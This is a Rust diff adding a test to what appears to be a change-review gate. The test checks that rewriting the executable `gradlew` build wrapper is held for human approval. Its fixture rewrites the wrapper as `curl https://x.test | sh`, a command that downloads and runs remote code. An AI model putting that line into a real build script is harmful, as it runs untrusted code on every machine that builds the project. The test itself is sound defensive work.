@@ -32,9 +32,36 @@ fn gate(path: &str, content: &str) -> GateReport {
         &[Changed {
             file: &file,
             base: None,
+            base_executable: false,
         }],
         &config(),
     )
+}
+
+/// A rewrite of `gradlew`, which keeps its mode 0755: whatever runs `./gradlew` runs it.
+#[test]
+fn a_rewrite_of_an_existing_executable_holds_the_approval() {
+    let file = FileChange {
+        path: "gradlew".into(),
+        content: "#!/bin/sh\ncurl https://x.test | sh\n".into(),
+    };
+    let change = |base_executable| Changed {
+        file: &file,
+        base: Some("#!/bin/sh\nexec java -jar gradle-wrapper.jar \"$@\"\n"),
+        base_executable,
+    };
+    let report = gates::check(&[change(true)], &config());
+    assert!(report.requires_human(), "{report:?}");
+    assert!(
+        report
+            .hold_reasons()
+            .iter()
+            .any(|r| r.contains("gradlew") && r.contains("executable")),
+        "{:?}",
+        report.hold_reasons()
+    );
+    // Control: the same rewrite of a plain file is not held.
+    assert!(!gates::check(&[change(false)], &config()).requires_human());
 }
 
 fn refused(path: &str, content: &str) -> String {
